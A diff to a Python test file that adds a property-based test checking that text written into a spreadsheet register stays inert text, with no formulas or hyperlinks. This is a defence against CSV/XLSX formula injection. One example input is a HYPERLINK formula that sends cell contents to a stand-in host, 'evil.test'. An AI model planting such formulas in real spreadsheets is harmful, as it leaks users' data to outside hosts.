@@ -3,16 +3,23 @@
 As CSV it has no column for anybody's words at all, and `test_forty_marks.py` finds none there.
 """
 
+import asyncio
 import io
+import re
+import xml.etree.ElementTree as ET
 from collections.abc import AsyncIterator
 from pathlib import Path
 from xml.sax.saxutils import escape
 from zipfile import ZipFile
 
 import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
 
 from pd_intake_bot.app import register
 from pd_intake_bot.domain.rights import Language
+from pd_intake_bot.sheets import Book
+from pd_intake_bot.usecases.overview.register_book import Heading
 from tests.servers.staff import INQUIRY, OFFICER, PERSON, StaffService, write_mail
 from tests.servers.telegram import POLICY, TEXTS, make_tables
 
@@ -52,3 +59,48 @@ async def test_no_cell_of_the_register_is_a_formula(service: StaffService, formu
     # The officer's name is there; no formula, and marked as words for whoever edits the cell.
     assert (escape(formula.strip()) in written, "<f" in written) == (True, False)
     assert 'quotePrefix="1"' in styles
+
+
+SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+MOST_IN_A_CELL = 32_767
+BEGINNINGS = "=+-@\t\r\n＝＋－＠"
+WORDS = st.tuples(
+    st.sampled_from(["", *BEGINNINGS, " =", "\ufeff=", "'=", '"=', "_x003D_", "http://"]),
+    st.text(st.characters(exclude_categories=["Cs"]), max_size=30),
+).map("".join)
+
+
+async def write(words: str) -> ZipFile:
+    book = Book(Heading(title="Реестр", columns=("Кто",), widths=(18,)))
+    await book.add([(words,)])
+    return ZipFile(io.BytesIO(await book.done()))
+
+
+@given(words=WORDS)
+@example(words="a\ufffeb\uffff")
+@example(words="\x00\x01\x0b\x1f")
+@example(words='=HYPERLINK("http://evil.test/"&A1)')
+@example(words="x" * 40_000)
+@settings(max_examples=40)
+def test_any_words_in_a_cell_stay_the_words_they_are(words: str) -> None:
+    with asyncio.run(write(words)) as file:
+        sheet = ET.fromstring(file.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - written here
+        styles = ET.fromstring(file.read("xl/styles.xml"))  # noqa: S314 - written here
+    assert sheet.find(f".//{SPACE}f") is None
+    assert sheet.find(f".//{SPACE}hyperlinks") is None
+    cell = sheet.find(f".//{SPACE}c[@r='A2']")
+    if cell is None:
+        assert words == ""
+        return
+    assert cell.get("t") == "inlineStr"
+    quoted = styles.findall(f"{SPACE}cellXfs/{SPACE}xf")[int(cell.get("s", "0"))].get("quotePrefix")
+    assert (quoted == "1") is words.startswith(tuple(BEGINNINGS))
+    text = "".join(one.text or "" for one in cell.iter(f"{SPACE}t"))
+    # What no XML can hold is written by its number.
+    shown = plain(re.sub("_x([0-9A-Fa-f]{4})_", lambda hit: chr(int(hit[1], 16)), text))
+    assert shown == plain(words)[:MOST_IN_A_CELL]
+
+
+def plain(words: str) -> str:
+    """Leave out what has no shape: programs write it in ways of their own."""
+    return re.sub("[\x00-\x1f\x7f-\x9f\ufffe\uffff]", "", words)
